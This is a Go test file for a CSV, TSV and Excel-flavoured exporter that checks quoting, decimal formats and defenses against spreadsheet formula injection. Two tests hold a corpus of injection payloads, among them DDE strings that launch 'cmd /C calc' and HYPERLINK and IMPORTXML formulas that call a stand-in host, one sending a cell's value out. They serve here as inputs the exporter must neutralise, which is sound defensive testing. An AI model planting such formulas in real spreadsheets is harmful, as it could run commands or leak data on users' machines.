package csv_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"errors"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"portico/catalog"
	"portico/exporter"
	"portico/exporter/csv"
)

var columns = []catalog.Column{
	{Name: "testo", Type: catalog.String},
	{Name: "n", Type: catalog.Integer},
	{Name: "importo", Type: catalog.Decimal, Scale: 2},
	{Name: "attivo", Type: catalog.Boolean},
	{Name: "giorno", Type: catalog.Day},
	{Name: "ora", Type: catalog.TimeOfDay},
	{Name: "quando", Type: catalog.Timestamp},
}

func write(t *testing.T, f exporter.Format, cols []catalog.Column, rows ...[]any) string {
	t.Helper()
	var b bytes.Buffer
	all := func(yield func([]any, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}
	if err := f.Write(t.Context(), &b, exporter.Rows{Columns: cols, All: all}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

var (
	day   = time.Date(2024, 2, 29, 0, 0, 0, 0, time.UTC)
	stamp = time.Date(2024, 2, 29, 8, 30, 5, 250_000_000, time.UTC)
	row   = []any{`Bar "Da Gino", centro; Forlì`, int64(-5), 1234.5, true, day, 9*time.Hour + 30*time.Minute, stamp}
)

func TestCSVForPrograms(t *testing.T) {
	got := write(t, csv.Format(), columns, row,
		[]any{nil, nil, nil, nil, nil, nil, nil},
		[]any{"due\nrighe", int64(1), 0.1, false, time.Date(9999, 12, 31, 0, 0, 0, 0, time.UTC), time.Duration(0), stamp.Truncate(time.Second)},
		[]any{"", int64(0), 12345678.901234567, nil, time.Date(33, 4, 3, 0, 0, 0, 0, time.UTC), nil, nil})
	want := "testo,n,importo,attivo,giorno,ora,quando\r\n" +
		`"Bar ""Da Gino"", centro; Forlì",-5,1234.5,true,2024-02-29,09:30:00,2024-02-29T08:30:05.25` + "\r\n" +
		",,,,,,\r\n" +
		"\"due\nrighe\",1,0.1,false,9999-12-31,00:00:00,2024-02-29T08:30:05\r\n" +
		"\"\",0,12345678.901234567,,0033-04-03,,\r\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got\n%s", diff)
	}
}

func TestCSVForExcel(t *testing.T) {
	got := write(t, csv.Excel(), columns, row)
	want := "\ufefftesto;n;importo;attivo;giorno;ora;quando\r\n" +
		`"Bar ""Da Gino"", centro; Forlì";-5;1234,5;true;2024-02-29;09:30:00;2024-02-29T08:30:05.25` + "\r\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got\n%s", diff)
	}
}

func TestFormulasAreHarmlessInExcel(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://e.example";"x")`: `"'=HYPERLINK(""http://e.example"";""x"")"`,
		"@SUM(A1:A9)":                        `"'@SUM(A1:A9)"`,
		"+cmd|' /C calc'!A0":                 `"'+cmd|' /C calc'!A0"`,
		"-2+3+cmd|' /C calc'!A0":             `"'-2+3+cmd|' /C calc'!A0"`,
		"\t=1+1":                             "\"'\t=1+1\"",
		" =1+1":                              `"' =1+1"`,
		"+39 0881 123456":                    "+39 0881 123456",
		"-5":                                 "-5",
		"- nota":                             `"'- nota"`,
		"5-9":                                "5-9",
		"testo":                              "testo",
	} {
		got := write(t, csv.Excel(), columns[:1], []any{in})
		if got != "\ufefftesto\r\n"+want+"\r\n" {
			t.Errorf("%q: got %q", in, got)
		}
		if plain := write(t, csv.Format(), columns[:1], []any{in}); bytes.Contains([]byte(plain), []byte("'"+in)) {
			t.Errorf("%q: CSV for programs changes it: %q", in, plain)
		}
	}
}

func TestEveryTextIsReadBack(t *testing.T) {
	texts := []string{"", "a", " a ", `"`, `""`, "a,b", "a\r\nb", "\n", "è", "'", ";", "\t"}
	var rows [][]any
	for _, s := range texts {
		rows = append(rows, []any{s, int64(1)})
	}
	r := stdcsv.NewReader(bytes.NewReader([]byte(write(t, csv.Format(), columns[:2], rows...))))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range texts {
		if s == "a\r\nb" {
			s = "a\nb" // encoding/csv makes one of two
		}
		if !slices.Equal(records[i+1], []string{s, "1"}) {
			t.Errorf("%q came back as %q", s, records[i+1])
		}
	}
}

func TestAnErrorAmongTheRowsEndsTheFile(t *testing.T) {
	broken := errors.New("broken")
	rows := exporter.Rows{Columns: columns[:1], All: func(yield func([]any, error) bool) { yield(nil, broken) }}
	if err := csv.Format().Write(t.Context(), &bytes.Buffer{}, rows); !errors.Is(err, broken) {
		t.Errorf("got %v", err)
	}
	rows.All = func(yield func([]any, error) bool) { yield([]any{1}, nil) }
	if err := csv.Format().Write(t.Context(), &bytes.Buffer{}, rows); err == nil {
		t.Error("an int is no value of a column")
	}
}

func TestTSV(t *testing.T) {
	got := write(t, csv.TSV(), columns[:2], []any{"a\tb, \"c\"", int64(1)}, []any{"d,e", nil})
	if want := "testo\tn\r\n\"a\tb, \"\"c\"\"\"\t1\r\nd,e\t\r\n"; got != want {
		t.Errorf("got %q", got)
	}
}

// TestTheCorpusOfFormulas holds what spreadsheets have been made to run (the
// OWASP page on CSV injection, and what was seen) against both kinds of CSV.
func TestTheCorpusOfFormulas(t *testing.T) {
	for _, in := range []string{
		"=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://e.example?x=\"&A1)",
		"\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", " =1+1", "|cmd", "=IMPORTXML(\"http://e.example\";\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
		"=1+1\";=1+1;\"", "+39=1", "--1", "+-+1+cmd|'/C calc'!A1", "=\"a\";=1", "\ufeff=1+1", "＝1+1", "＠SUM(1)",
	} {
		excel := write(t, csv.Excel(), columns[:1], []any{in})
		cell := bytes.TrimSuffix(bytes.TrimPrefix([]byte(excel), []byte("\ufefftesto\r\n")), []byte("\r\n"))
		if !bytes.HasPrefix(cell, []byte(`"'`)) {
			t.Errorf("%q is %q for Excel", in, cell)
		}
		for name, f := range map[string]exporter.Format{"CSV": csv.Format(), "TSV": csv.TSV()} {
			if got := write(t, f, columns[:1], []any{in}); bytes.Contains([]byte(got), []byte("'"+in)) {
				t.Errorf("%q is changed for programs in %s: %q", in, name, got)
			}
		}
	}
	for _, in := range []string{"-5", "+39 081 5551234", "-12,50", "+3.5", "a=b", "5-9", "x@y.example", "'già"} {
		if got := write(t, csv.Excel(), columns[:1], []any{in}); got != "\ufefftesto\r\n"+in+"\r\n" {
			t.Errorf("%q is harmless and was changed: %q", in, got)
		}
	}
}
